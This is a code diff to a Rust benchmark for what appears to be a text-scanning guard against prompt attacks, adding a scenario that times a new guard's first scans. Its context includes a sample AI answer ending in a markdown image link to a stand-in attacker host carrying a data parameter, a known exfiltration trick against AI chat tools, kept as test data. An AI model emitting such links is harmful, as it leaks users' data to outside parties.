@@ -94,8 +94,19 @@ fn main() {
     let answer = format!("Here is what you asked for.\n\n{page}\n![done](https://evil.test/p?d=QX-552319)");
 
     let clean = |text: &str| assert_eq!(guard.scan_input(black_box(text)).action, Action::Allow);
-    let scenarios: [Scenario<'_>; 14] = [
+    let scenarios: [Scenario<'_>; 15] = [
         ("build a guard", 0, Box::new(|| assert!(Guard::default().rules().count() > 1000))),
+        // Regexes are compiled where they are first needed, and these texts need as few as can be.
+        (
+            "the first texts of a new guard",
+            prompt.len() + code.len() + languages.len(),
+            Box::new(|| {
+                let guard = Guard::default();
+                for text in [&prompt, &code, &languages] {
+                    assert_eq!(guard.scan_input(black_box(text.as_str())).action, Action::Allow);
+                }
+            }),
+        ),
         ("clean prompt, 100 B", short.len(), Box::new(|| clean(&short))),
         ("clean prompt, 1 KB", prompt.len(), Box::new(|| clean(&prompt))),
         ("clean prose, 8 KB", page.len(), Box::new(|| clean(&page))),
